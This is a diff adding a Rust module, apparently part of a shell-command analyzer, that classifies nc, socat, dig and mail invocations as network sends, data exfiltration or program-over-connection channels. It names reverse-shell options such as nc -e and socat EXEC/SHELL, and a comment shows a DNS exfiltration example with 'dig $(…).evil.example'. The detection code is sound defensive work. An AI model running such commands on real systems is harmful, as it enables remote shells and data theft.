@@ -1,0 +1,138 @@
+//! Raw connections and mail: `nc`, `socat`, `dig` with data in the name, `mail`.
+//!
+//! Owns what leaves or enters through them. A program that is given to a connection is a channel:
+//! whoever is at the other end types into it.
+
+use super::Family;
+use super::scene::{Scene, family};
+use crate::Arg;
+use crate::options::{Options, Spec, flag, value};
+use model::{Flags, ResourceKind, Verb};
+
+/// The family.
+pub const SOCKETS: Family = family! { "sockets",
+    "dig" => lookup,
+    "drill" => lookup,
+    "host" => lookup,
+    "mail" => mail,
+    "mailx" => mail,
+    "mutt" => mail,
+    "nc" => netcat,
+    "nc.openbsd" => netcat,
+    "nc.traditional" => netcat,
+    "ncat" => netcat,
+    "netcat" => netcat,
+    "nslookup" => lookup,
+    "sendmail" => mail,
+    "socat" => socat,
+};
+
+const NETCAT: Spec = Spec::full(&[
+    value("program e exec"),
+    value("script c sh-exec lua-exec"),
+    value("p source-port"),
+    value("s source"),
+    value("w wait"),
+    value("i idle-timeout interval"),
+    value("q"),
+    value("X proxy-type"),
+    value("x proxy"),
+    value("o output"),
+    value("T"),
+    value("I"),
+    value("O"),
+    flag("listen l"),
+    flag("scan z"),
+    flag("help version h V"),
+    flag("u k v n 4 6 d C r t U N D S udp keep-open verbose ssl send-only recv-only"),
+]);
+
+/// `nc HOST PORT`
+fn netcat(scene: &mut Scene<'_, '_>) {
+    let options = Options::read(&scene.invocation.args, &NETCAT);
+    if options.has_any(&["scan", "help"]) {
+        return;
+    }
+    let words = options.operands.iter().map(|arg| arg.text.as_str());
+    let address = words.collect::<Vec<_>>().join(":");
+    connect(scene, &address);
+    for name in ["program", "script"] {
+        for program in options.values(name) {
+            give(scene, &address, program);
+        }
+    }
+}
+
+fn connect(scene: &mut Scene<'_, '_>, address: &str) {
+    let url = format!("tcp://{address}");
+    scene.act_on(Verb::Send, (ResourceKind::Url, &url), Flags::NONE);
+}
+
+/// A program whose input and output go over a connection.
+fn give(scene: &mut Scene<'_, '_>, address: &str, program: &Arg) {
+    let invocation = scene.invocation;
+    scene.world.script(invocation, &invocation.program, program);
+    let url = format!("tcp://{address}");
+    scene.act_on(Verb::OpenChannel, (ResourceKind::Url, &url), Flags::NONE);
+}
+
+/// Kinds of addresses of `socat` that start a program.
+const SOCAT_PROGRAMS: &[&str] = &["EXEC", "SHELL", "SYSTEM"];
+
+/// Kinds of addresses of `socat` that are files.
+const SOCAT_FILES: &[&str] = &["CREATE", "FILE", "GOPEN", "OPEN"];
+
+/// Beginnings of kinds of addresses of `socat` that lead to other machines.
+const SOCAT_REMOTE: &[&str] = &["OPENSSL", "PROXY", "SCTP", "SOCKS", "SSL", "TCP", "UDP", "VSOCK"];
+
+/// `socat ADDRESS ADDRESS`
+fn socat(scene: &mut Scene<'_, '_>) {
+    let args = &scene.invocation.args;
+    let addresses = args.iter().filter(|arg| !arg.text.starts_with('-'));
+    let parts: Vec<(String, Arg)> = addresses.filter_map(address).collect();
+    let is_remote = |kind: &str| SOCAT_REMOTE.iter().any(|start| kind.starts_with(start));
+    let remote = parts.iter().find(|(kind, _)| is_remote(kind));
+    let remote = remote.map(|(_, rest)| rest.text.clone());
+    for (kind, rest) in &parts {
+        match (SOCAT_PROGRAMS.contains(&kind.as_str()), &remote) {
+            (true, Some(remote)) => give(scene, remote, rest),
+            (true, None) => scene.world.script(scene.invocation, "socat", rest),
+            _ if SOCAT_FILES.contains(&kind.as_str()) => scene.read(rest),
+            _ => {}
+        }
+    }
+    if let Some(remote) = remote {
+        connect(scene, &remote);
+    }
+}
+
+/// Kind and rest of an address: `TCP:host:99`, `EXEC:'program words',pty`.
+fn address(arg: &Arg) -> Option<(String, Arg)> {
+    let (kind, rest) = arg.text.split_once(':')?;
+    let rest = rest.split(',').next().unwrap_or_default();
+    let rest = Arg {
+        text: rest.trim_matches(['"', '\'']).to_owned(),
+        ..arg.clone()
+    };
+    Some((kind.to_uppercase(), rest))
+}
+
+/// `dig $(…).evil.example`: a name that holds what is not known here is a way out for data.
+fn lookup(scene: &mut Scene<'_, '_>) {
+    let args = &scene.invocation.args;
+    let Some(name) = args.iter().find(|arg| arg.text.contains(Arg::HOLE)) else {
+        return;
+    };
+    let url = format!("dns://{}", name.text);
+    scene.act_on(Verb::Send, (ResourceKind::Url, &url), Flags::NONE);
+}
+
+/// `mail ADDRESS`
+fn mail(scene: &mut Scene<'_, '_>) {
+    let args = &scene.invocation.args;
+    let addresses = args.iter().filter(|arg| arg.text.contains('@'));
+    for to in addresses.cloned().collect::<Vec<_>>() {
+        let url = format!("mailto:{}", to.text);
+        scene.act_on(Verb::Send, (ResourceKind::Url, &url), Flags::NONE);
+    }
+}
